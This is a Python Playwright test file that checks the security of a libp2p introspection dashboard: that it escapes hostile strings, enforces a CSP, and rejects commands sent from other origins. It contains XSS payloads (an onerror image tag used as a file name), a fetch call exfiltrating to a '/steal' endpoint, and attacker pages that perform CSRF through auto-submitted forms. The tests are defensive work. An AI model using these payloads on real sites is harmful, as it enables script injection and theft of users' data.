    rows = page.locator("#events-table .tabulator-row")
    expect(rows.nth(1)).to_be_visible()
    types = page.locator("#events-table .tabulator-row [tabulator-field=type]").all_inner_texts()
    assert len(types) >= 2 and {t.strip() for t in types} == {f["event.type"]}, types
    summaries = " ".join(
        page.locator("#events-table .tabulator-row [tabulator-field=summary]").all_inner_texts()
    )
    # (A summary is cut at 240 characters: the JSON below has the rest.)
    assert json.dumps(f["event.key"]) in summaries and f["event.text"] in summaries, summaries
    hover_every_cell(page, "#events-table", {})
    for k in (0, 1):  # open the JSON of the two newest (a click toggles it)
        if rows.nth(k).locator("pre.event-json").count() == 0:
            rows.nth(k).locator("[tabulator-field=summary]").click()
        expect(rows.nth(k).locator("pre.event-json")).to_have_count(1)
    shown = " ".join(page.locator("#events-table pre.event-json").all_inner_texts())
    for name in (
        "event.type",
        "event.key",
        "event.value",
        "event.item",
        "event.property",
        "event.text",
    ):
        assert json.dumps(f[name]) in shown, (name, shown)
    chip.click()  # the filter off again
    expect(page.locator("#event-chips .chip.on")).to_have_count(0)

    # A message quoting a string: copying a peer id.
    open_tab(page, "connections")
    page.locator("#connections-table .tabulator-row button.copy").click()
    expect(page.locator("#message")).to_have_text(f"copied {f['conn.peer_id']}")
    assert_nothing_ran(page)


@pytest.fixture
def unprotected_page(browser: Any) -> Iterator[Any]:
    """A page whose CSP the browser ignores: the page's own escaping must hold alone."""
    yield from _open_page(browser, bypass_csp=True)


def test_hostile_strings_from_a_server_and_a_recording_show_as_text(
    unprotected_page: Any, tmp_path: Path
):  # fmt: skip
    from hostile_recording import FIELDS, payload, write_hostile_recording
    from playwright.sync_api import expect

    page = unprotected_page
    recording = write_hostile_recording(tmp_path / "hostile.mock")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    serve = ["-m", "libp2p_introspection", "serve", "--source", str(recording), "--loop",
             "--port", "0"]  # fmt: skip
    with running(serve, first_line_timeout=60) as (_, ws_url), \
            running(["-m", "libp2p_introspection", "dashboard", "--port", "0", ws_url],
                    first_line_timeout=60) as (_, url):  # fmt: skip
        # A live server sending them.
        page.goto(url)
        expect(page.locator("#conn-state")).to_have_text("connected")
        expect(page.locator("#peer-id")).to_have_text(FIELDS["runtime.peer_id"])
        # The replay loops (each pass sends the two events again): once they are here,
        # hold the picture still while hovering.
        page.wait_for_function("() => window.dashboardState.events.length >= 2")
        page.click("#pause-btn")
        expect(page.locator("#feed-state")).to_have_text("paused")
        walk_every_view(page, FIELDS)
        shot(page, "hostile-live")

        # The same strings in a recording, opened from the page under a hostile file name.
        name = "<img src=x onerror=\"xss('file.name')\">.mock"  # a file name has no "/"
        page.set_input_files("#file-input", files=[
            {"name": name, "mimeType": "application/octet-stream", "buffer": recording.read_bytes()}
        ])  # fmt: skip
        expect(page.locator("#mode-badge")).to_have_text("recording")
        expect(page.locator("#recording-name")).to_contain_text(f"{name} · 3 snapshots · 2 events")
        walk_every_view(page, FIELDS)
        shot(page, "hostile-recording")

        # A hostile URL typed into the Connect box: shown as text, in the header and messages.
        hostile_url = "ws://127.0.0.1:9/" + payload("url")
        page.fill("#connect-url", hostile_url)
        page.click("#connect-btn")
        expect(page.locator("#server-url")).to_have_text(hostile_url)
        expect(page.locator("#mode-badge")).to_have_text("live")
        expect(page.locator("#conn-state")).not_to_have_text("connected")
        assert_nothing_ran(page)


def test_the_page_runs_under_a_csp_that_stops_injected_script_and_foreign_requests(
    page: Any, demo: dict[str, str]
):  # fmt: skip
    from playwright.sync_api import expect

    response = page.goto(demo["dashboard"])
    policy = response.headers.get("content-security-policy", "")
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy, policy
    assert "unsafe-eval" not in policy and "frame-ancestors 'none'" in policy, policy
    expect(page.locator("#conn-state")).to_have_text("connected")
    expect(page.locator("#connections-table .tabulator-row").first).to_be_visible()
    # Markup that got into the page anyway could not run script...
    page.evaluate("""() => document.body.insertAdjacentHTML(
        'beforeend', '<img src=x onerror="xss(\\'inline\\')">')""")
    page.wait_for_function("() => window.__csp.some((v) => v.startsWith('script-src'))")
    # ...nor send what it read to another origin (fetch or WebSocket).
    sent = page.evaluate("""() => fetch('http://127.0.0.2:9/steal', {method: 'POST', body: 'x'})
        .then(() => 'sent', () => 'not sent')""")
    assert sent == "not sent"
    page.evaluate("() => { try { new WebSocket('ws://127.0.0.2:9/steal'); } catch (e) {} }")
    page.wait_for_function(
        "() => window.__csp.filter((v) => v.startsWith('connect-src')).length >= 2"
    )
    assert page.evaluate("() => window.__xss") == []
    page.evaluate("() => { window.__csp.length = 0; }")  # these were ours, not the page's
    page.csp_refusals.clear()


class _AttackerPages:
    """Another site's pages, served on loopback: each POSTs a command to the dashboard."""

    def __init__(self, dashboard: str) -> None:
        import http.server
        import threading

        target = dashboard.rstrip("/")
        form = '{"url": "ws://127.0.0.1:9/csrf", "x": "'
        pages = {
            # A plain HTML form: text/plain body that parses as JSON; submitted on load.
            "/form-connect": f"""<form method=POST action="{target}/api/connect" enctype="text/plain">
                <input name='{form}' value='"}}'></form>
                <script>document.forms[0].submit()</script>""",
            "/form-pause": f"""<form method=POST action="{target}/api/pause"></form>
                <script>document.forms[0].submit()</script>""",
            # A script's simple request (no preflight): text/plain, sent even though the
            # answer is unreadable.
            "/fetch-connect": f"""<script>
                fetch("{target}/api/connect", {{method: "POST", mode: "no-cors",
                  headers: {{"Content-Type": "text/plain"}},
                  body: JSON.stringify({{url: "ws://127.0.0.1:9/csrf"}})}})
                  .catch(() => null)  // its answer is unreadable here whatever it was
                  .finally(() => {{ document.title = "done"; }});
                </script>""",
        }

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                body = pages.get(self.path, "").encode()
                self.send_response(200 if body else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def test_another_origin_cannot_drive_the_dashboard(page: Any):
    # Commands were taken from any loopback origin: a page on another local port (a dev
    # server, a page the node's own tools served) could repoint the dashboard's feed.
    import urllib.request

    args = ["-m", "libp2p_introspection", "dashboard", "--port", "0", "ws://127.0.0.1:9/introspect"]
    with running(args, first_line_timeout=60) as (_, url):
        attacker = _AttackerPages(url)
        try:

            def status() -> dict[str, Any]:
                with urllib.request.urlopen(url + "api/status", timeout=10) as response:
                    return json.load(response)

            before = status()
            for origin in (
                f"http://127.0.0.1:{attacker.port}",
                f"http://evil.test:{attacker.port}",
            ):
                for path in ("/form-connect", "/form-pause"):
                    with page.expect_response(lambda r: "/api/" in r.url) as answer:
                        page.goto(origin + path)
                    assert answer.value.status == 403, (origin, path, answer.value.status)
                page.goto(origin + "/fetch-connect")
                page.wait_for_function("() => document.title === 'done'")
            after = status()
            assert (after["url"], after["paused"]) == (before["url"], before["paused"]), after
        finally:
            attacker.close()
